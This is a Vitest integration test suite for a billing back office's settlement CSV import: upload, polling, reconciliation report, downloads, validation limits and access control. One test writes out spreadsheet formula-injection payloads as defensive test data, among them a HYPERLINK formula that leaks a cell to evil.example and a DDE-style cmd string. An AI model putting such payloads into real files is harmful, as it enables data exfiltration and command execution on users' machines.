import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import type { TSettlementImportDetail } from '@sarraf/contracts';
import { type ApiClient, readError, readOk } from '@sarraf/contracts/typed-client';
import { auditLog, settlementImports } from '../../src/db/schema/index';
import { rowsOf } from '../../src/lib/sql-rows';
import { createAdminUser, ensureFirstAdmin } from '../../src/services/back-office';
import { settlementImportJob } from '../../src/jobs/settlement-import';
import { startWorker } from '../../src/worker';
import { adminBrowser, type AdminBrowser } from '../support/admin-browser';
import { startBillingServer } from '../support/billing';
import type { TestServer } from '../support/test-server';
import { serviceDayOf } from '../support/service-day';
import { chargesOfNewSubscribers, type LedgerCharge } from './charges';

const HEADER = 'reference,msisdn,amount,currency,status,charged_at';

describe('settlement in the back office: upload, poll, report, download', () => {
  let server: TestServer;
  let admin: AdminBrowser;
  let editor: AdminBrowser;
  let charges: LedgerCharge[] = [];

  /** Posts a CSV file as the back office does: its bytes as the body, text/csv; the raw answer. */
  const send = (browser: AdminBrowser, text: string, fileName = 'settlement.csv', contentType = 'text/csv') =>
    browser.api.call('adminUploadSettlement', {
      query: { file_name: fileName },
      body: text,
      headers: { 'content-type': contentType },
    });
  /** An upload the server takes: its status and the body parsed by the contract. */
  const upload = async (
    browser: AdminBrowser,
    text: string,
    fileName = 'settlement.csv',
    contentType = 'text/csv',
  ) => {
    const response = await send(browser, text, fileName, contentType);
    return { status: response.status, body: await readOk('adminUploadSettlement', response) };
  };

  /** Polls an import until it is no longer running. */
  const settled = async (id: number): Promise<TSettlementImportDetail> => {
    for (let attempt = 0; attempt < 200; attempt++) {
      const answer = await admin.api.ok('adminGetSettlement', { params: { id } });
      if (answer.data.status !== 'running') return answer.data;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error(`import ${id} still running`);
  };

  const line = (charge: (typeof charges)[number], amount: string, status: string, at: string) =>
    `${charge.reference},${charge.msisdn},${amount},${charge.currency},${status},${at}`;

  beforeAll(async () => {
    server = await startBillingServer();
    // The imports run as jobs, on a worker of this process as in the embedded mode.
    await startWorker({ ...server.app.deps, log: server.app.log }, [settlementImportJob]);
    const first = (await ensureFirstAdmin(server.database.db))!;
    await createAdminUser(server.database.db, {
      email: 'editor@sarraf.local',
      password: 'editor-password-1',
      role: 'editor',
    });
    admin = await adminBrowser(server, first);
    editor = await adminBrowser(server, { email: 'editor@sarraf.local', password: 'editor-password-1' });
    // Four subscribers, each with one succeeded first charge today.
    charges = await chargesOfNewSubscribers(server, 4);
  });
  afterAll(async () => {
    await server?.close();
  });

  let reconciled: TSettlementImportDetail;
  let monthFile: string;

  it('an admin uploads a file with one line in each group, polls it, and reads the report', async () => {
    const now = new Date().toISOString();
    const [matched, amountOff, refundedThere] = charges;
    monthFile = [
      HEADER,
      line(matched!, matched!.amount, 'charged', now),
      `unknown-ref-ui-1,967770000001,50.00,${matched!.currency},charged,${now}`,
      line(amountOff!, '1.00', 'charged', now),
      line(refundedThere!, refundedThere!.amount, 'refunded', now),
      '',
    ].join('\n');
    const started = await upload(admin, monthFile, 'month.csv');
    expect(started.status).toBe(202);
    expect(started.body.data).toMatchObject({
      status: 'running',
      duplicate: false,
      file_name: 'month.csv',
      imported_by: 'admin@sarraf.local',
    });

    reconciled = await settled(started.body.data.id);
    expect(reconciled.status).toBe('done');
    expect(reconciled.summary).toMatchObject({
      lines: 4,
      matched: 1,
      missing_here: 1,
      amount_mismatch: 1,
      status_mismatch: 1,
    });
    // Other charges of today in the template are absent from the file too.
    expect(reconciled.summary!.missing_there).toBeGreaterThanOrEqual(1);
    expect(reconciled.covered_from).toBe(serviceDayOf(now));
    expect(reconciled.covered_to).toBe(serviceDayOf(now));
    expect(reconciled.totals).toContainEqual({
      day: serviceDayOf(now),
      group: 'missing_here',
      currency: matched!.currency,
      lines: 1,
      amount_minor: 5000,
    });

    const lines = await admin.api.ok('adminListSettlementLines', {
      params: { id: reconciled.id },
      query: { group: 'amount_mismatch' },
    });
    expect(lines.meta.total).toBe(1);
    expect(lines.data[0]).toMatchObject({
      group: 'amount_mismatch',
      line: 4,
      reference: amountOff!.reference,
      amount_there_minor: 100,
      status_here: 'charged',
    });
    const absent = await admin.api.ok('adminListSettlementLines', {
      params: { id: reconciled.id },
      query: { group: 'missing_there', per_page: 100 },
    });
    expect(absent.data.map((row) => row.reference)).toContain(charges[3]!.reference);

    const list = await admin.api.ok('adminListSettlements');
    expect(list.data[0]).toMatchObject({ id: reconciled.id, status: 'done' });

    const audit = await server.database.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, 'settlement.import'));
    expect(audit.at(-1)).toMatchObject({ actorType: 'admin', actorLabel: 'admin@sarraf.local' });
  });

  it('the same file again answers 200 with its first import and changes nothing', async () => {
    const countRows = async () =>
      rowsOf<{ imports: number; lines: number; audit: number }>(
        await server.database.db.execute(sql`select
          (select count(*)::int from settlement_imports) as imports,
          (select count(*)::int from settlement_report_lines) as lines,
          (select count(*)::int from ${auditLog}) as audit`),
      )[0]!;
    const before = await countRows();
    const again = await upload(admin, monthFile, 'month-again.csv');
    expect(again.status).toBe(200);
    expect(again.body.data).toMatchObject({
      id: reconciled.id,
      duplicate: true,
      status: 'done',
      file_name: 'month.csv',
      summary: reconciled.summary,
    });
    expect(await countRows()).toEqual(before);
  });

  it('downloads the report and the totals as CSV attachments', async () => {
    const params = { id: reconciled.id };
    const report = await admin.api.call('adminDownloadSettlementReport', { params });
    expect(report.status).toBe(200);
    expect(report.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(report.headers.get('content-disposition')).toBe(
      `attachment; filename="settlement-${reconciled.id}.csv"`,
    );
    const text = await report.text();
    expect(text.split('\n')[0]).toBe(
      'group,line,day,reference,msisdn,amount_there,amount_here,currency,status_there,status_here',
    );
    expect(text).toContain(`amount_mismatch,4,`);
    expect(text).toContain('missing_here,3,');

    const totals = await admin.api.call('adminDownloadSettlementTotals', { params });
    expect(totals.status).toBe(200);
    expect(totals.headers.get('content-disposition')).toContain('attachment');
    expect((await totals.text()).split('\n')[0]).toBe('day,group,currency,lines,amount');

    await admin.api.fails('adminDownloadSettlementReport', 404, { params: { id: 999999 } });
    await admin.api.fails('adminDownloadSettlementTotals', 404, { params: { id: 999999 } });
  });

  it('writes the report so that no cell the operator wrote opens as a spreadsheet formula', async () => {
    const now = new Date().toISOString();
    const currency = charges[0]!.currency;
    const started = await upload(
      admin,
      [
        HEADER,
        `"=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",967770000002,50.00,${currency},charged,${now}`,
        `@SUM(1+1),967770000003,50.00,${currency},charged,${now}`,
        `-2+3,967770000004,50.00,${currency},charged,${now}`,
        `"+cmd|' /C calc'!A0",967770000005,50.00,${currency},charged,${now}`,
        '',
      ].join('\n'),
      'formulas.csv',
    );
    expect(started.status).toBe(202);
    const done = await settled(started.body.data.id);
    expect(done.status).toBe('done');
    const report = await admin.api.call('adminDownloadSettlementReport', { params: { id: done.id } });
    const rows = (await report.text()).split('\n').filter((row) => row.startsWith('missing_here,'));
    const day = serviceDayOf(now);
    expect(rows).toEqual([
      `missing_here,2,${day},"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",967770000002,50.00,,${currency},charged,`,
      `missing_here,3,${day},'@SUM(1+1),967770000003,50.00,,${currency},charged,`,
      `missing_here,4,${day},'-2+3,967770000004,50.00,,${currency},charged,`,
      `missing_here,5,${day},'+cmd|' /C calc'!A0,967770000005,50.00,,${currency},charged,`,
    ]);
    // No cell of any line starts a formula: every one is a plain value or a quoted text.
    for (const row of rows) {
      expect(row.split(',').some((cell) => /^[=+@]/.test(cell))).toBe(false);
    }
  });

  it('refuses a currency that is not an ISO 4217 code, naming its line, and leaves nothing', async () => {
    const before = (await server.database.db.select().from(settlementImports)).length;
    const charge = charges[0]!;
    const good = line(charge, charge.amount, 'charged', '2026-01-01T00:00:00Z');
    const started = await upload(
      admin,
      [HEADER, good, good.replace(`,${charge.currency},`, ',ZZQ,'), ''].join('\n'),
      'unknown-currency.csv',
    );
    expect(started.status).toBe(202);
    const failed = await settled(started.body.data.id);
    expect(failed).toMatchObject({ status: 'failed', summary: null, totals: [] });
    expect(failed.error).toContain('السطر 3');
    expect(failed.error_detail).toBe('line 3: currency is not an ISO 4217 code');
    expect((await server.database.db.select().from(settlementImports)).length).toBe(before);
  });

  it.each([
    [
      'days',
      // 401 days, one line each.
      Array.from({ length: 401 }, (_, day) =>
        new Date(Date.UTC(2025, 0, 1) + day * 86_400_000).toISOString(),
      ).map((at, index) => `cap-days-${index},967770000009,50.00,YER,charged,${at}`),
      /^line 402: the file covers more than 400 days/,
      'أكثر من 400 يوم',
    ],
    [
      'currencies',
      Intl.supportedValuesOf('currency')
        .filter((code) => code !== 'JPY' && !['BHD', 'IQD', 'JOD', 'KWD', 'LYD', 'OMR', 'TND'].includes(code))
        .slice(0, 21)
        .map(
          (code, index) => `cap-currencies-${index},967770000009,50.00,${code},charged,2026-01-01T00:00:00Z`,
        ),
      /^line 22: the file names more than 20 currencies/,
      'أكثر من 20 عملة',
    ],
  ])(
    'refuses a file past the limit of %s, saying so in one line, and leaves nothing',
    async (_, lines, detail, arabic) => {
      const before = rowsOf<{ imports: number; lines: number }>(
        await server.database.db.execute(sql`select
        (select count(*)::int from settlement_imports) as imports,
        (select count(*)::int from settlement_report_lines) as lines`),
      )[0]!;
      const started = await upload(admin, [HEADER, ...lines, ''].join('\n'), `too-many-${_}.csv`);
      expect(started.status).toBe(202);
      const failed = await settled(started.body.data.id);
      expect(failed).toMatchObject({ status: 'failed', summary: null, totals: [] });
      expect(failed.error_detail).toMatch(detail);
      expect(failed.error).toContain(arabic);
      expect(failed.error).not.toMatch(/\n/);
      const after = rowsOf<{ imports: number; lines: number }>(
        await server.database.db.execute(sql`select
        (select count(*)::int from settlement_imports) as imports,
        (select count(*)::int from settlement_report_lines) as lines`),
      )[0]!;
      expect(after).toEqual(before);
    },
  );

  it('a file without a mapped column is refused at once, naming it, and leaves nothing', async () => {
    const before = (await server.database.db.select().from(settlementImports)).length;
    const refused = await readError(
      await send(
        admin,
        'reference,msisdn,amount,currency,charged_at\nx,1,1.00,YER,2026-01-01T00:00:00Z\n',
        'no-status.csv',
        'text/csv; charset=utf-8',
      ),
      422,
    );
    expect(refused.message).toContain('«status»');
    expect(refused.errors).toEqual({ file: [refused.message] });
    expect((await send(admin, '')).status).toBe(422);
    expect((await server.database.db.select().from(settlementImports)).length).toBe(before);
  });

  it('a line that does not parse, deep in the file, shows on the poll as a failed import with its line', async () => {
    const charge = charges[0]!;
    const good = line(charge, charge.amount, 'charged', '2026-01-01T00:00:00Z');
    const started = await upload(
      admin,
      [HEADER, good, good, good.replace('charged,', 'maybe,'), ''].join('\n'),
    );
    expect(started.status).toBe(202);
    const failed = await settled(started.body.data.id);
    expect(failed).toMatchObject({ status: 'failed', summary: null });
    expect(failed.error).toContain('السطر 4');
    expect(failed.error_detail).toMatch(/^line 4: status/);
    expect(
      await server.database.db.select().from(settlementImports).where(eq(settlementImports.id, failed.id)),
    ).toEqual([]);
  });

  it('keeps the column mapping, audited, and reads a file through it', async () => {
    const read = await admin.api.ok('adminGetSettlementColumns');
    expect(read.data.columns.reference).toBe('reference');
    expect(Object.keys(read.data.presets)).toEqual(['http', 'oneapi']);

    const oneapi = read.data.presets.oneapi!;
    const saved = await admin.api.ok('adminUpdateSettlementColumns', { json: { columns: oneapi } });
    expect(saved.data.columns).toEqual(oneapi);
    const [row] = await server.database.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, 'settings.update'))
      .orderBy(sql`${auditLog.id} desc`)
      .limit(1);
    expect(row).toMatchObject({ entity: 'settings', entityId: 'settlement.columns', after: oneapi });

    const charge = charges[1]!;
    const started = await upload(
      admin,
      [
        'clientCorrelator,endUserId,amount,currency,transactionOperationStatus,timestamp',
        `${charge.reference},tel:+${charge.msisdn},${charge.amount},${charge.currency},Charged,2027-03-01T10:00:00Z`,
        '',
      ].join('\n'),
      'oneapi.csv',
      'application/octet-stream',
    );
    expect(started.status).toBe(202);
    expect((await settled(started.body.data.id)).summary).toMatchObject({ lines: 1, matched: 1 });

    await admin.api.fails('adminUpdateSettlementColumns', 422, {
      json: { columns: { ...oneapi, status: ' ' } },
    });
    await admin.api.ok('adminUpdateSettlementColumns', { json: { columns: read.data.columns } });
  });

  it('refuses an editor and anyone signed out, before reading a byte', async () => {
    const before = (await server.database.db.select().from(settlementImports)).length;
    expect((await send(editor, monthFile.replace('unknown-ref-ui-1', 'unknown-ref-ui-2'))).status).toBe(403);
    const params = { id: reconciled.id };
    const reads: Array<[string, (api: ApiClient) => Promise<Response>]> = [
      ['adminListSettlements', (api) => api.call('adminListSettlements')],
      ['adminGetSettlement', (api) => api.call('adminGetSettlement', { params })],
      ['adminListSettlementLines', (api) => api.call('adminListSettlementLines', { params })],
      ['adminDownloadSettlementReport', (api) => api.call('adminDownloadSettlementReport', { params })],
      ['adminDownloadSettlementTotals', (api) => api.call('adminDownloadSettlementTotals', { params })],
      ['adminGetSettlementColumns', (api) => api.call('adminGetSettlementColumns')],
    ];
    for (const [name, read] of reads) {
      expect((await read(editor.api)).status, name).toBe(403);
      expect((await read(server.api)).status, name).toBe(401);
    }
    await editor.api.fails('adminUpdateSettlementColumns', 403, { rawJson: { columns: {} } });
    expect((await server.database.db.select().from(settlementImports)).length).toBe(before);
  });

  it('refuses a JSON body and a file past the size limit', async () => {
    await admin.api.fails('adminUploadSettlement', 415, { rawJson: { file: 'x' } });
    // A client that announces more than 1 GiB is refused before its body is read.
    const url = new URL(admin.api.urlOf('adminUploadSettlement'));
    const status = await new Promise<number>((resolve, reject) => {
      const sending = httpRequest(url, {
        method: 'POST',
        headers: {
          'content-type': 'text/csv',
          'content-length': String(1024 * 1024 * 1024 + 1),
          cookie: admin.jar.header(),
          'x-xsrf-token': admin.jar.get('XSRF-TOKEN') ?? '',
        },
      });
      sending.on('response', (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
        sending.destroy();
      });
      sending.on('error', reject);
      sending.write(`${HEADER}\n`);
    });
    expect(status).toBe(413);
  });
});
